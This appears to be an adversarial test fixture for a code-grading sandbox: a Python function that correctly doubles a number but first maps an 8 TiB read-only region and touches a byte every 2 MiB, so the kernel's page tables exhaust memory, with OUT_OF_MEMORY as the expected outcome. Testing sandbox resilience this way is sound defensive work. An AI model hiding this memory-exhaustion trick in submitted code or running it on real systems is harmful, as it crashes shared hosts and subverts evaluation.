# attack: reads a byte here and there in a room without end: nothing is in it, and the kernel's tables of it fill the memory
# checks: double_right
# outcome: double_right=OUT_OF_MEMORY
import ctypes
import mmap

STEP, ROOM = 1 << 21, 1 << 43


def double(number):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    room = libc.mmap(None, ROOM, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
    for at in range(0, ROOM, STEP):
        ctypes.c_char.from_address(room + at).value
    return 2 * number
